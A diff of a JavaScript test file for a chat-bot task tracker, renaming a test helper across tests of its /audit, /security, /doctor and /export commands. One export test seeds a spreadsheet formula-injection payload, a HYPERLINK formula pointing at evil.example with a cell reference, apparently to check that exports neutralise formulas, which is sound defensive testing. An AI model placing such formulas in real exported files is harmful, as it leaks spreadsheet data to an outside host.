@@ -36,7 +36,7 @@ describe('/audit', () => {
       dueAt: new Date('2026-12-01T22:59:00Z'),
     })
 
-    bot.user.say('/audit web-1')
+    bot.user.sendText('/audit web-1')
 
     const { text } = await bot.user.nextMessage('Change history of WEB-1')
     expect(text).toMatch(/WEB-1 Inbox → Todo, priority none → high, due none → Tue 1 Dec( 2026)? · you/)
@@ -48,7 +48,7 @@ describe('/audit', () => {
       bot,
       Array.from({ length: 30 }, (_, index) => ({ title: `Task ${index + 1}` })),
     )
-    bot.user.say('/audit')
+    bot.user.sendText('/audit')
     const first = await bot.user.nextMessage('WEB-30')
     bot.user.tap('Older ›')
     const second = await bot.user.nextEdit('WEB-18')
@@ -66,11 +66,11 @@ describe('/audit', () => {
 
 test('/security names strangers and refused tokens', async () => {
   const stranger = virtualUser(bot.world, { userId: 2002, firstName: 'Eve', started: true })
-  stranger.say('let me in')
+  stranger.sendText('let me in')
   await bot.handled()
   await fetch(`${bot.url()}/api/tasks`, { headers: { authorization: 'Bearer preq_wrong' } })
 
-  bot.user.say('/security')
+  bot.user.sendText('/security')
 
   const { text } = await bot.user.nextMessage('Security')
   expect(text).toContain('Ignored a message from user 2002')
@@ -80,7 +80,7 @@ test('/security names strangers and refused tokens', async () => {
 test('/doctor names a problem with its fix', async () => {
   bot.world.bot.user.supports_inline_queries = false
   await bot.restart()
-  bot.user.say('/doctor')
+  bot.user.sendText('/doctor')
 
   const { text } = await bot.user.nextMessage('🩺')
 
@@ -94,7 +94,7 @@ describe('/export', () => {
     await addTasks(bot, [{ title: 'One', description: 'A note', labels: ['backend'] }])
     const { token } = await createToken(bot.ctx, { name: 'laptop' })
 
-    bot.user.say('/export')
+    bot.user.sendText('/export')
     const { name, bytes } = await nextFile()
 
     const board = JSON.parse(bytes.toString('utf8'))
@@ -119,7 +119,7 @@ describe('/export', () => {
       { title: '＝1+1', description: '=HYPERLINK("https://evil.example/?"&A2,"open")\nsecond line' },
     ])
 
-    bot.user.say('/export')
+    bot.user.sendText('/export')
     await nextFile()
     const { name, bytes } = await nextFile()
 
@@ -147,7 +147,7 @@ describe('/export', () => {
       })),
     )
 
-    bot.user.say('/export')
+    bot.user.sendText('/export')
     const { name, bytes } = await nextFile()
 
     expect(name).toMatch(/\.json\.gz$/)
